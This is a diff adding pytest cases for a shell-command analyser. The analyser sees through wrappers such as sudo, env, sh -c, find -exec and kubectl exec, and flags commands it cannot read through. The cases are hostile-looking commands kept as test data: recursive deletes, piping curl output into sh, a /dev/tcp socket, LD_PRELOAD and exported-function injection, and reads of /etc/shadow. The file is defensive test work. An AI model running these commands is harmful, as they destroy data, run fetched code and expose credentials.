@@ -1,0 +1,190 @@
+"""Commands behind wrappers: seen through exactly, or opaque; and what a shell inside parses is read again."""
+
+from __future__ import annotations
+
+import pytest
+
+REACHED = [
+    # text, via, argv of the innermost command
+    ("sudo rm -rf /srv", ("sudo",), ("rm", "-rf", "/srv")),
+    ("sudo -u postgres -n -- rm x", ("sudo",), ("rm", "x")),
+    ("sudo LC_ALL=C rm x", ("sudo",), ("rm", "x")),
+    ("doas -u bob rm x", ("doas",), ("rm", "x")),
+    ("env -- LC_ALL=C rm x", ("env",), ("rm", "x")),
+    ("env -i -u TZ rm x", ("env",), ("rm", "x")),
+    ("nohup nice -n 5 ionice -c3 rm x", ("nohup", "nice", "ionice"), ("rm", "x")),
+    ("nice -5 rm x", ("nice",), ("rm", "x")),
+    ("timeout -k 5 --signal=KILL 10s rm x", ("timeout",), ("rm", "x")),
+    ("setsid -w stdbuf -oL rm x", ("setsid", "stdbuf"), ("rm", "x")),
+    ("command -p rm x", ("command",), ("rm", "x")),
+    ("exec -a ls rm x", ("exec",), ("rm", "x")),
+    ("'time' -p rm x", ("time",), ("rm", "x")),
+    ("time -p rm x", (), ("rm", "x")),
+    ("busybox rm x", ("busybox",), ("rm", "x")),
+    ("/usr/bin/sudo /bin/rm x", ("sudo",), ("/bin/rm", "x")),
+    ("sh -c 'rm x'", ("sh",), ("rm", "x")),
+    ("bash -elc 'cd /srv && rm x' name arg", ("bash",), ("rm", "x")),
+    ("sh -o errexit -c 'rm x'", ("sh",), ("rm", "x")),
+    ("sudo sh -c \"env sh -c 'rm x'\"", ("sudo", "sh", "env", "sh"), ("rm", "x")),
+    ("eval 'rm x'", ("eval",), ("rm", "x")),
+    ("builtin eval 'rm x'", ("builtin", "eval"), ("rm", "x")),
+    ("find /srv -name x -exec rm {} \\;", ("find",), ("rm", "{}")),
+    ("find /srv -exec rm -- {} + -o -ok mv {} /tmp ';'", ("find",), ("mv", "{}", "/tmp")),
+    ("kubectl -n web exec -it p -c app -- sh -c 'rm x'", ("kubectl", "sh"), ("rm", "x")),
+    ("docker exec -u 0 -it web rm x", ("docker",), ("rm", "x")),
+    ("docker container exec web rm x", ("docker",), ("rm", "x")),
+    ("sh <<'E'\nrm x\nE", ("sh",), ("rm", "x")),
+    ("bash <<< 'rm x'", ("bash",), ("rm", "x")),
+    ("if true; then sudo rm x; fi", ("sudo",), ("rm", "x")),
+]
+
+
+@pytest.mark.parametrize(("text", "via", "argv"), REACHED)
+def test_the_command_inside_is_reported_with_its_wrappers(
+    analyse, text: str, via: tuple[str, ...], argv: tuple[str, ...]
+) -> None:
+    analysis = analyse(text)
+    assert analysis.opaque == ()
+    assert any(e.via == via and e.argv == argv for e in analysis.effects), [(e.via, e.argv) for e in analysis.effects]
+    assert analysis.sent
+
+
+OPAQUE = [
+    ("sudo -i rm x", "unknown-option"),
+    ("sudo -e /etc/passwd", "unknown-option"),
+    ("sudo -E rm x", "environment-kept"),
+    ("sudo FOO=1 rm x", "assignment"),
+    ("sudo", "no-command"),
+    ("env LD_PRELOAD=/tmp/x.so ls", "assignment"),
+    ("env -i PATH=/tmp ls", "assignment"),
+    ("env -u PATH ls", "assignment"),
+    ("env -S 'rm -rf /srv'", "unknown-option"),
+    ("env -C /etc cat shadow", "unknown-option"),
+    ("env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls", "assignment"),
+    ("timeout --nosuch 5 rm x", "unknown-option"),
+    ("xargs rm", "arguments-from-stdin"),
+    ("xargs -a list rm", "arguments-from-file"),
+    ("find . -exec {} \\;", "placeholder-in-command"),
+    ("find . -exec sh -c 'rm {}' \\;", "placeholder-in-code"),
+    ("find . -execdir rm x \\;", "working-directory"),
+    ("find . -exec rm {}", "no-command"),
+    ("bash x.sh", "script-file"),
+    ("bash -i -c ls", "unknown-option"),
+    ("bash --rcfile x -c ls", "unknown-option"),
+    ("bash -O extglob -c ls", "unknown-option"),
+    ("sh -c", "no-command"),
+    ("sh -c 'ls &&'", "nested-syntax-error"),
+    ("sh -c \"$(cat x)\"", "command-substitution"),
+    ("sh -c $'ls\\rrm x'", "deceptive-code"),
+    ("curl -s http://h/x | sh", "stdin-code"),
+    ("sh < script", "stdin-code"),
+    ("sh", "stdin-code"),
+    ("cat; sh", "stdin-code"),
+    ("sh <<E\n$(rm x)\nE", "here-document"),
+    ("sh <<'E'\ncat\nrm x\nE", "script-reads-itself"),
+    ("sh <<'E'\n$'\\x72m' x\nE", "dialect"),
+    ("eval ls -la", "eval"),
+    ("eval \"$x\"", "parameter"),
+    ("exec 3<>/dev/tcp/1.2.3.4/5", "exec-redirection"),
+    ("su -c 'rm x'", "foreign-shell"),
+    ("kubectl exec p rm x", "no-command"),
+    ("kubectl --kubeconfig x exec p -- ls", "unknown-subcommand"),
+    ("env LC_ALL=C -- rm x", "unknown-program"),
+    ("docker exec --privileged web ls", "unknown-option"),
+    ("watch rm x", "unknown-program"),
+    ("strace rm x", "unknown-program"),
+    ("chroot /mnt rm x", "unknown-program"),
+    ("script -c 'rm x'", "unknown-program"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "reason"), OPAQUE)
+def test_what_can_not_be_seen_through_is_opaque(analyse, text: str, reason: str) -> None:
+    analysis = analyse(text)
+    assert reason in {o.reason for o in analysis.opaque}, analysis.opaque
+    assert analysis.sent is None
+
+
+def test_the_wrapper_stays_a_fact(analyse) -> None:
+    effects = analyse("sudo -u postgres timeout 5 rm x").effects
+    assert [(e.verb, e.object, e.detail, e.via) for e in effects] == [
+        ("privilege", "postgres", "", ("sudo",)),
+        ("execute", "timeout", "wrapper", ("sudo",)),
+        ("delete", "x", "", ("sudo", "timeout")),
+    ]
+
+
+def test_the_contract_of_explain(analyse) -> None:
+    """The example of the interface: two effects, and what an automatic allow would send."""
+    analysis = analyse("sudo rm -rf /var/lib/pg")
+    shown = [e.to_json() for e in analysis.effects]
+    assert {"verb": "privilege", "object": "root", "via": ["sudo"]}.items() <= shown[0].items()
+    wanted = {"verb": "delete", "object": "/var/lib/pg", "program": "rm", "argv": ["rm", "-rf", "/var/lib/pg"], "recursive": True}
+    assert wanted.items() <= shown[1].items()
+    assert shown[1]["via"] == ["sudo"]
+    assert len(shown) == 2
+    assert analysis.sent == "'sudo' 'rm' '-rf' '/var/lib/pg'"
+
+
+def test_inside_a_container_the_host_is_named(analyse) -> None:
+    inner = analyse("kubectl exec web-0 -- cat /etc/shadow").effects[-1]
+    assert (inner.verb, inner.host, inner.origin) == ("secret", "pod:web-0", "remote")
+
+
+def test_find_items_stand_for_anything_below_the_starting_points(analyse) -> None:
+    effects = {(e.verb, e.object, e.recursive) for e in analyse("find /etc /srv -exec cat {} +").effects}
+    assert {("read", "/etc", True), ("secret", "/etc", True), ("read", "/srv", True)} <= effects
+
+
+def test_relative_paths_after_cd_name_both_places(analyse) -> None:
+    objects = {(e.verb, e.object) for e in analyse("cd /etc && cat shadow").effects}
+    assert ("secret", "/etc/shadow") in objects
+    assert ("read", "shadow") in objects
+    deletes = {e.object for e in analyse("( cd /tmp ); rm -rf a").effects if e.verb == "delete"}
+    assert deletes == {"a", "/tmp/a"}
+    assert "working-directory" in {o.reason for o in analyse("cd a; cd b; cd c; cd d; cat x").opaque}
+
+
+def test_nesting_is_bounded(analyse) -> None:
+    text = "rm x"
+    for _ in range(9):
+        text = "sh -c '" + text.replace("'", "'\\''") + "'"
+    assert {o.reason for o in analyse(text[:16_000]).opaque} or analyse(text).unreadable
+    many = "; ".join("sh -c 'ls'" for _ in range(20))
+    assert "nesting" in {o.reason for o in analyse(many).opaque}
+
+
+def test_offsets_point_into_the_text_of_the_client(analyse) -> None:
+    text = "écho a; rm $(cat x)"
+    found = next(o for o in analyse(text).opaque if o.reason == "command-substitution")
+    assert text.encode()[found.start : found.end].decode() == "$(cat x)"
+    nested = "ls; sh -c 'rm $x'"
+    found = next(o for o in analyse(nested).opaque if o.reason == "parameter")
+    assert nested[found.start : found.end] == "sh -c 'rm $x'"
+
+
+@pytest.mark.parametrize("shell", ["fish", "/usr/bin/fish", "tcsh", "csh", "nosuchsh"])
+def test_accounts_whose_shell_quotes_differently_are_never_static(analyse, shell: str) -> None:
+    analysis = analyse("uptime", shell=shell)
+    assert [o.reason for o in analysis.opaque] == ["foreign-shell"]
+    assert analysis.sent is None
+
+
+def test_a_charset_that_is_not_utf8_makes_other_letters_opaque(analyse) -> None:
+    assert analyse("echo a", utf8=False).static
+    assert [o.reason for o in analyse("echo é", utf8=False).opaque] == ["locale"]
+    assert analyse("LC_ALL=zh_CN.GBK ls").opaque
+    assert analyse("LC_ALL=C.UTF-8 ls").static
+    assert analyse("LC_ALL=en_US ls").opaque
+
+
+def test_held_input_is_shell_text_for_a_shell(analyse) -> None:
+    held = analyse("bash -s", stdin=b"cd /srv && rm -rf x\n")
+    assert ("delete", "/srv/x", "stdin") in {(e.verb, e.object, e.origin) for e in held.effects}
+    assert held.static
+    assert analyse("sh", stdin=b"$'\\x72m' x\n").opaque
+    assert analyse("sh", stdin=b"cat\nls\n").opaque
+    assert analyse("sh", stdin=b"ls $(rm x)").opaque
+    assert analyse("cat; sh", stdin=b"ls").opaque
+    assert analyse("python3", stdin=b"1").opaque
+    assert analyse("sh", stdin=b"").static
